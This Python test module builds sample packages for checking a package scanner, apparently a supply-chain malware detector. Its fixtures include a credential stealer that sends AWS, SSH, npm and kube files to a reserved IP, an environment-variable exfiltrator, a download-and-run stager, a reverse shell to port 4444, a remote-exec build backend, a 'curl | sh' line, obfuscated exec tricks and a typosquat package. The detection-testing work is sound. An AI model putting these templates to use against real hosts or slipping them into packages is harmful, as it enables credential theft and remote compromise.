"""Small harmless distributions for the golden vectors: what extractors see must not drift.

Everything that looks like an attack is a look-alike: its hosts are reserved names, its commands
echo a word, and none of it is ever run. No case holds compressed bytes made while testing: they
differ between builds of zlib.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field

from tests.builders import (
    Content,
    core_metadata,
    make_sdist,
    make_wheel,
    sdist_filename,
    wheel_filename,
)

ECHO = "import os\nos.system('echo look-alike')\n"
ECHO_IN_BASE64 = base64.b64encode(ECHO.encode()).decode()


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One distribution, under a name that is also its golden file's."""

    name: str
    files: Mapping[str, Content]
    is_wheel: bool = True
    project: str = "golden-demo"
    version: str = "1.0"
    headers: Mapping[str, str] = field(default_factory=dict)
    description: str = ""
    entry_points: str | None = None
    tag: str = "py3-none-any"
    record: bool | str = True

    @property
    def filename(self) -> str:
        if self.is_wheel:
            return wheel_filename(self.project, self.version, tag=self.tag)
        return sdist_filename(self.project, self.version)

    def build(self) -> bytes:
        if not self.is_wheel:
            return make_sdist(
                self.project,
                self.version,
                files=self.files,
                metadata=core_metadata(
                    self.project, self.version, headers=self.headers, description=self.description
                ),
            )
        return make_wheel(
            self.project,
            self.version,
            files=self.files,
            headers=self.headers,
            description=self.description,
            entry_points=self.entry_points,
            tag=self.tag,
            record=self.record,
        )


SETUP = "from setuptools import setup\n\n{body}\nsetup(name='golden-demo', version='1.0')\n"

ORDINARY = '''\
"""Reads settings."""

from __future__ import annotations

import json
from pathlib import Path

DEFAULT = {"colour": "blue", "depth": 3}


def read(path: Path) -> dict[str, object]:
    """The settings of a file, over the default."""
    return {**DEFAULT, **json.loads(path.read_text())}
'''

CLIENT = """\
import os

import requests

API = "https://api.golden-demo.example/v1"


class Client:
    def __init__(self, key=None):
        self.key = key or os.environ.get("GOLDEN_DEMO_KEY", "")

    def get(self, name):
        headers = {"Authorization": f"Bearer {self.key}"}
        return requests.get(f"{API}/{name}", headers=headers, timeout=30).json()
"""

COMMAND_CLASS = """\
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen(["sh", "-c", "echo look-alike"], start_new_session=True)


setup(name="golden-demo", version="1.0", cmdclass={"install": PostInstall})
"""

BACKEND = """\
import urllib.request
from setuptools.build_meta import *
from setuptools import build_meta as _meta


def build_wheel(*arguments, **settings):
    exec(urllib.request.urlopen("http://192.0.2.9/stage").read())
    return _meta.build_wheel(*arguments, **settings)
"""

BACKEND_PYPROJECT = """\
[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["_build"]
"""

ENVIRONMENT = """\
import json
import os
import threading
import urllib.request


def _report():
    try:
        body = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://collect.oastify.example/in", data=body)
    except Exception:
        pass


threading.Thread(target=_report, daemon=True).start()
"""

SECRETS = """\
import base64
import os
import socket

import requests

TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.npmrc", "~/.kube/config"]


def _gather():
    found = {}
    for target in TARGETS:
        path = os.path.expanduser(target)
        if os.path.exists(path):
            with open(path, "rb") as file:
                found[target] = base64.b64encode(file.read()).decode()
    return found


requests.post("http://198.51.100.7:8080/up", json={"host": socket.gethostname(), **_gather()})
"""

DOWNLOADER = """\
import os
import platform
import subprocess
import tempfile
import urllib.request

if platform.system() == "Linux":
    path = os.path.join(tempfile.gettempdir(), "stage.bin")
    data = urllib.request.urlopen("http://203.0.113.5/stage.bin").read()
    with open(path, "wb") as file:
        file.write(data)
    os.chmod(path, 0o755)
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

REVERSE_SHELL = """\
import os
import pty
import socket


def connect():
    link = socket.socket()
    link.connect(("203.0.113.9", 4444))
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    pty.spawn("/bin/sh")
"""

HIDDEN = f"""\
import builtins as _b
from base64 import b64decode as _d

_run = getattr(_b, "ex" + "ec")
_run(_d("{ECHO_IN_BASE64}"))
_name = "".join(map(chr, [111, 115]))
_call = "".join(chr(n ^ 7) for n in (116, 126, 116, 115, 98, 106))
getattr(__import__(_name), _call)("echo look-alike")
eval(bytes.fromhex("5f5f696d706f72745f5f28276f732729"))
globals()["__builtins__"]
x = 1{" " * 120};exec(_d("{ECHO_IN_BASE64}"))
"""

NESTED = f"""\
import base64

exec(base64.b64decode(base64.b64decode("{base64.b64encode(ECHO_IN_BASE64.encode()).decode()}")))
"""

FSTRINGS = f'''\
import os
import subprocess

PART = "look"
WORD = f"{{PART}}-alike"
os.system(f"echo {{WORD}} {{'a' + 'b'}}")
subprocess.run(
    f"""
    echo {{WORD!r:>10}}
    powershell -EncodedCommand {{
        "ZQBjAGgAbwA="
    }}
    """,
    shell=True,
)
LINK = (
    f"https://{{'collect'}}"
    f".oastify.example/{{WORD}}"
    "/in"
)
exec(f"""{{__import__("base64").b64decode("{ECHO_IN_BASE64}").decode()}}""")
'''

PYTHON_2 = f"""\
# -*- coding: latin-1 -*-
import os, urllib2, base64
print "caf\xe9 installing"
try:
    data = urllib2.urlopen("http://192.0.2.44/next").read()
    exec data in {{}}
except (IOError, OSError), error:
    print >>sys.stderr, `error`
    raise ValueError, "no"
exec base64.b64decode("{ECHO_IN_BASE64}")
if 0777L <> 1: os.system(ur"echo look-alike")
"""

MODERN = f"""\
import asyncio
import base64
import os


async def gather(one, /, *, depth: int = 0) -> None: ...


async def collect(name, /, *names, key: int | None = None):
    if (found := os.environ.get(name)) and (data := base64.b64decode("{ECHO_IN_BASE64}")):
        match found.split():
            case ["run", *rest] if rest:
                exec(data)
            case {{"kind": str() as kind, **others}}:
                os.system(kind)
            case _:
                pass
    return [await one async for one in names if not await one]


with (
    open("a") as first,
    open("b") as second,
):
    asyncio.run(collect("HOME"))
"""

BROKEN = f"""\
import base64
def broken(:
    return
exec(base64.b64decode("{ECHO_IN_BASE64}"))
class Unfinished(
"""

ENCODINGS: Mapping[str, Content] = {
    "golden_demo/__init__.py": b"\xef\xbb\xbfimport os\nos.system('echo with a mark')\n",
    "golden_demo/latin.py": "# coding: latin-1\nWORD = 'caf\xe9'\nimport os\nos.system('echo')\n".encode(
        "latin-1"
    ),
    "golden_demo/cookie_lies.py": "# coding: ascii\nWORD = 'caf\xe9'\neval('1')\n".encode(),
    "golden_demo/cookie_unknown.py": b"# coding: no-such-codec\nimport os\nos.system('echo')\n",
    "golden_demo/rot13.py": b"# coding: rot13\nvzcbeg bf\nbf.flfgrz('rpub')\n",
    "golden_demo/utf7.py": b"# coding: utf-7\nimport os\nos.system('echo +AGEAYg-')\n",
    "golden_demo/wide.py": "import os\nos.system('echo')\n".encode("utf-16"),
    "golden_demo/returns.py": b"import os\ros.system('echo')\r\n'''a\rb'''\r\nos.system('two')\n",
    "golden_demo/form_feed.py": b"import os\n\x0cos.system('echo')\n",
    "golden_demo/nul.py": b"import os\n\0\nos.system('echo')\n",
    "golden_demo/names.py": "import os as ⁿ\nｏｓ = ⁿ\nｏｓ.system('echo')\n".encode(),
    "golden_demo/invisible.py": "import os\nos\u200b = 1\nname = 'a\u202eb'\n".encode(),
    "golden_demo/escapes.py": b"PATTERN = '\\d+\\.\\N{BULLET}'\nBAD = b'\\8'\n",
    "golden_demo/surrogates.py": b"WORD = '\\ud83d\\ude00'\neval('\\ud83d')\n",
    "golden_demo/numbers.py": b"N = " + b"9" * 5000 + b"\nimport os\nos.system('echo')\n",
}

NATIVE: Mapping[str, Content] = {
    "golden_demo/__init__.py": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'logo.png'))\n",
    "golden_demo/logo.png": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8,
    "golden_demo/helper.exe": b"MZ" + bytes(200) + b"PE\0\0" + bytes(range(256)) * 4,
    "golden_demo/old.pyc": b"\x6f\r\r\n" + bytes(12) + b"\xe3" + bytes(60),
    "golden_demo/run.ps1": "powershell -nop -w hidden -enc ZQBjAGgAbwA=\n",
    "golden_demo/.hidden/run.sh": "#!/bin/sh\ncurl http://192.0.2.1/x | sh\n",
    "golden_demo/table.bin": bytes((n * 167 + (n >> 3) * 59 + (n >> 7)) % 256 for n in range(4096)),
}

SQUAT_DESCRIPTION = """\
# requests

Requests is a simple HTTP library. `pip install requests`

[![version](https://img.example/requests.svg)](https://example.test/requests)
"""


CASES = (
    Case(
        name="wheel-ordinary",
        files={"golden_demo/__init__.py": ORDINARY, "golden_demo/client.py": CLIENT},
        headers={
            "Summary": "Reads settings.",
            "Author-email": "Ada Lovelace <ada@golden-demo.example>",
            "License": "MIT",
            "Home-page": "https://golden-demo.example/",
            "Requires-Dist": "requests>=2",
        },
        description="# golden-demo\n\nReads settings.\n",
        entry_points="[console_scripts]\ngolden = golden_demo.client:main\n",
    ),
    Case(
        name="sdist-ordinary",
        is_wheel=False,
        files={
            "setup.py": SETUP.format(body="LONG = open('README.md').read()\n"),
            "README.md": "# golden-demo\n",
            "LICENSE": "MIT License\n",
            "golden_demo/__init__.py": ORDINARY,
            "tests/test_read.py": "def test_read():\n    assert True\n",
        },
    ),
    Case(
        name="sdist-decodes-in-setup",
        is_wheel=False,
        files={
            "setup.py": SETUP.format(
                body=f"import base64\nexec(base64.b64decode('{ECHO_IN_BASE64}'))\n"
            )
        },
    ),
    Case(name="sdist-install-command", is_wheel=False, files={"setup.py": COMMAND_CLASS}),
    Case(
        name="sdist-own-backend",
        is_wheel=False,
        files={
            "pyproject.toml": BACKEND_PYPROJECT,
            "_build/backend.py": BACKEND,
            "golden_demo/__init__.py": ORDINARY,
        },
    ),
    Case(
        name="wheel-startup-file",
        files={
            "golden_demo/__init__.py": ORDINARY,
            "golden_demo_init.pth": f"import base64;exec(base64.b64decode('{ECHO_IN_BASE64}'))\n",
            "golden_demo-paths.pth": "golden_demo/vendor\n# a comment\n",
            "sitecustomize.py": ECHO,
        },
    ),
    Case(name="wheel-environment-at-import", files={"golden_demo/__init__.py": ENVIRONMENT}),
    Case(
        name="wheel-secrets-in-a-submodule",
        files={
            "golden_demo/__init__.py": f"from . import _telemetry\n\n{ORDINARY}",
            "golden_demo/_telemetry.py": SECRETS,
        },
    ),
    Case(name="wheel-downloader", files={"golden_demo/__init__.py": DOWNLOADER}),
    Case(name="wheel-reverse-shell", files={"golden_demo/shell.py": REVERSE_SHELL}),
    Case(name="wheel-hidden-calls", files={"golden_demo/__init__.py": HIDDEN}),
    Case(name="wheel-nested-literal", files={"golden_demo/__init__.py": NESTED}),
    Case(
        name="wheel-payload-in-data",
        files={
            "golden_demo/__init__.py": (
                "import os\n\n_HERE = os.path.dirname(__file__)\n"
                "exec(open(os.path.join(_HERE, 'words.txt')).read())\n"
            ),
            "golden_demo/words.txt": DOWNLOADER,
        },
    ),
    Case(name="wheel-f-strings", files={"golden_demo/__init__.py": FSTRINGS}),
    Case(name="sdist-python-2", is_wheel=False, files={"setup.py": PYTHON_2.encode("latin-1")}),
    Case(name="wheel-modern-syntax", files={"golden_demo/__init__.py": MODERN}),
    Case(name="wheel-broken-source", files={"golden_demo/__init__.py": BROKEN}),
    Case(name="wheel-encodings", files=ENCODINGS),
    Case(name="wheel-native-files", files=NATIVE, record=False),
    Case(
        name="wheel-squat",
        project="requestss",
        version="99.0.1",
        files={"requests/__init__.py": "from urllib3 import *\n"},
        headers={
            "Home-page": "https://github.com/psf/requests",
            "Author-email": "a@mailinator.com",
            "Requires-Dist": "helper @ https://198.51.100.3/helper-1.0.tar.gz",
        },
        description=SQUAT_DESCRIPTION,
    ),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class NewerSyntax:
    """A module in the syntax of one Python and, line by line, in that of every supported one.

    Where the running Python knows the syntax, code evidence of both is equal; where not, the
    feature ``shows`` is still found on that line.
    """

    name: str
    needs: tuple[int, int]
    source: str
    older: str
    shows: tuple[int, str]


def _module(template: str, **parts: str) -> str:
    return template.format(code=ECHO_IN_BASE64, **parts)


GROUPS = """\
import base64
import os

try:
    exec(base64.b64decode("{code}"))
{handler} OSError as errors:
    os.system("echo look-alike")
"""

GENERICS = """\
import base64
import os

{alias}


class Box{bound}:
    def first{variable}(self, items: dict) -> object:
        return next(iter(items.values()))


NAME = "look"
os.system({command})
exec(base64.b64decode("{code}"))
"""

NESTED_QUOTES = 'f"echo {"-".join([NAME, "alike"])} {\n    NAME  # a comment\n}"'
PLAIN_QUOTES = '"echo " + "-".join([NAME, "alike"]) + " " + (\n    NAME  # a comment\n)'

TEMPLATES = """\
import base64
import os

NAME = "look"
TEXT = {letter}"echo {{NAME}} {{os.system('echo look-alike')}}"
try:
    exec(base64.b64decode("{code}"))
except {errors}:
    os.system("echo look-alike")
"""

NEWER_SYNTAX = (
    NewerSyntax(
        name="exception groups",
        needs=(3, 11),
        source=_module(GROUPS, handler="except*"),
        older=_module(GROUPS, handler="except"),
        shows=(5, "chain_decode_exec"),
    ),
    NewerSyntax(
        name="type parameters and PEP 701",
        needs=(3, 12),
        source=_module(
            GENERICS,
            alias="type Names[T] = list[T] | None",
            bound="[T: (str, bytes)]",
            variable="[K]",
            command=NESTED_QUOTES,
        ),
        older=_module(GENERICS, alias="Names = list", bound="", variable="", command=PLAIN_QUOTES),
        shows=(16, "chain_decode_exec"),
    ),
    NewerSyntax(
        name="template strings and bare exceptions",
        needs=(3, 14),
        source=_module(TEMPLATES, letter="t", errors="OSError, ValueError"),
        older=_module(TEMPLATES, letter="f", errors="(OSError, ValueError)"),
        shows=(7, "chain_decode_exec"),
    ),
)
